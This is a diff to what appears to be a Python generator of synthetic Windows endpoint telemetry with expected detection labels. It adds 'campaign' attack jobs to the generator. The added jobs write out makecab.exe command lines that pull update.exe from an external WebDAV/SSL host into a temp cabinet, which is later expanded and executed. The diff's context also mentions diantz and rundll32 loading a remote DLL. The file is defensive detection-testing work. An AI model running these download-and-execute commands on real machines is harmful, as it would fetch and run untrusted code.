@@ -65,6 +65,7 @@ class Job:
     allowlist: dict[str, Any] | None = None
     zone_url: str | None = None
     extra_findings: tuple[str, ...] = ()
+    campaign: str | None = None  # jobs of one campaign pull the same payload from the same place
 
 
 def _u(host: Host) -> str:
@@ -95,7 +96,17 @@ def jobs(fleet: Fleet, start: datetime) -> list[tuple[Job, Host]]:
             sources=[Source("webdav", "cdn-sync-storage.net", "185.199.110.42", 443, True, "",
                             "/tools/update.exe")],
             cab=f"{t}\\upd.cab", zone_url="https://cdn-sync-storage.net/tools/update.exe",
-            followon=("expand", "exec_exe", "schtasks")), h)
+            followon=("expand", "exec_exe", "schtasks"), campaign="cdn-sync"), h)
+    for n, idx in ((2, 5), (3, 9)):
+        h = pick(idx)
+        t = f"{_u(h)}\\AppData\\Local\\Temp"
+        add(Job(f"campaign_webdav_spread_{n}", "attack", "malicious",
+                "the same WebDAV/SSL tool pull seen on another host (fleet spread of one campaign)",
+                "ws", command=f"makecab.exe \\\\cdn-sync-storage.net@SSL\\DavWWWRoot\\tools\\update.exe {t}\\upd.cab",
+                sources=[Source("webdav", "cdn-sync-storage.net", "185.199.110.42", 443, True, "",
+                                "/tools/update.exe")],
+                cab=f"{t}\\upd.cab", zone_url="https://cdn-sync-storage.net/tools/update.exe",
+                followon=("expand", "exec_exe"), campaign="cdn-sync"), h)
     h = pick(1)
     add(Job("webdav_port_ip_diantz", "attack", "malicious",
             "diantz reads a DLL from a WebDAV server on an IP literal and port 8080; rundll32 runs it",
@@ -344,6 +355,22 @@ def _findings(job: Job, dns_used: bool) -> list[str]:
     return f
 
 
+def _possible(job: Job, dns_used: bool) -> list[str]:
+    """Findings true of the data by construction whose firing depends on fleet baselines and thresholds."""
+    out: list[str] = []
+    remote = [s for s in job.sources if s.kind != "local"]
+    external = any(not is_internal(s.ip) for s in remote)
+    if job.campaign:
+        out.append("fleet.spread")
+    elif external:
+        out.append("fleet.rare_destination")
+    if dns_used and external:
+        out.append("dns.new_domain")
+    if not job.image.lower().startswith("c:\\windows\\"):
+        out.append("fleet.rare_process")
+    return out
+
+
 def _parent_proc(act: Activity, job: Job, ts: int) -> Proc:
     st = act.state
     h = act.host
@@ -391,9 +418,10 @@ def run_job(act: Activity, job: Job, ts: int, store: ArtifactStore, rng: random.
     parent = _parent_proc(act, job, ts)
     fmt = h.fmt
     u = _u(h)
+    content_rng = random.Random(f"campaign:{job.campaign}") if job.campaign else rng
     for s in job.sources:
         name = s.path.rsplit("\\", 1)[-1].rsplit("/", 1)[-1]
-        s.content = member_content(name, rng, h.name)
+        s.content = member_content(name, content_rng, "campaign" if job.campaign else h.name)
         s.size = len(s.content)
     if job.ddf:
         act.chunk.events.append(sysmon.file_create(ts - 1500, parent, job.ddf[0]))
@@ -447,8 +475,11 @@ def run_job(act: Activity, job: Job, ts: int, store: ArtifactStore, rng: random.
                 t + 5, mk, job.cab + ":Zone.Identifier", sysmon.sysmon_hashes(cab_bytes),
                 f"[ZoneTransfer]\r\nZoneId=3\r\nHostUrl={job.zone_url}\r\n"))
     cab_rec = store.put(h.name, job.cab, cab_bytes, "cab")
+    cabinet: dict[str, Any] = {"path": job.cab, "sha256": cab_rec["sha256"], "artifact": cab_rec["path"]}
+    store.refer(cab_rec, cabinet)
     _followons(act, job, parent, t + rng.randrange(20_000, 90_000), members, u)
     findings = _findings(job, dns_used)
+    possible = _possible(job, dns_used)
     rules = []
     if any(s.kind != "local" for s in job.sources):
         rules.append(f"{job.maker}_download_cab")
@@ -462,11 +493,12 @@ def run_job(act: Activity, job: Job, ts: int, store: ArtifactStore, rng: random.
         "image": mk.image, "original_file_name": mk.pe.original_file_name, "command_line": mk.cmd,
         "working_directory": mk.cwd, "parent_image": parent.image, "parent_command_line": parent.cmd,
         "parent_entity_id": logged_guid(fmt, parent.guid), "user": mk.logon.user,
-        "expected_verdict": job.verdict, "expected_findings": findings, "expected_rules": rules, "expected_rule_ids": rule_ids,
+        "expected_verdict": job.verdict, "expected_findings": findings, "possible_findings": possible, "campaign": job.campaign,
+        "expected_rules": rules, "expected_rule_ids": rule_ids,
         "sources": [{"kind": s.kind, "host": s.host or None, "ip": s.ip or None,
                      "port": s.port if s.kind != "local" else None, "path": s.path, "sha256": sha256(s.content)}
                     for s in job.sources],
-        "cabinet": {"path": job.cab, "sha256": cab_rec["sha256"], "artifact": cab_rec["path"]},
+        "cabinet": cabinet,
         "directive_file": job.ddf[0] if job.ddf else None,
         "allowlist_entry": job.allowlist,
     }
@@ -535,6 +567,8 @@ def _run_cbs(act: Activity, job: Job, ts: int, store: ArtifactStore, rng: random
 
     cab_bytes = build_cab([(log_name, cbs_log(when, rng))], when)
     rec = store.put(h.name, cab, cab_bytes, "cab")
+    cabinet: dict[str, Any] = {"path": cab, "sha256": rec["sha256"], "artifact": rec["path"]}
+    store.refer(rec, cabinet)
     parent = mk.parent
     assert parent is not None
     return {
@@ -544,9 +578,9 @@ def _run_cbs(act: Activity, job: Job, ts: int, store: ArtifactStore, rng: random
         "image": mk.image, "original_file_name": mk.pe.original_file_name, "command_line": mk.cmd,
         "working_directory": mk.cwd, "parent_image": parent.image, "parent_command_line": parent.cmd,
         "parent_entity_id": logged_guid(h.fmt, parent.guid), "user": mk.logon.user,
-        "expected_verdict": job.verdict, "expected_findings": [], "expected_rules": [], "expected_rule_ids": [],
+        "expected_verdict": job.verdict, "expected_findings": [], "possible_findings": [], "campaign": None, "expected_rules": [], "expected_rule_ids": [],
         "sources": [{"kind": "local", "host": None, "ip": None, "port": None,
                      "path": cab[:-4] + ".log", "sha256": None}],
-        "cabinet": {"path": cab, "sha256": rec["sha256"], "artifact": rec["path"]},
+        "cabinet": cabinet,
         "directive_file": None, "allowlist_entry": None,
     }
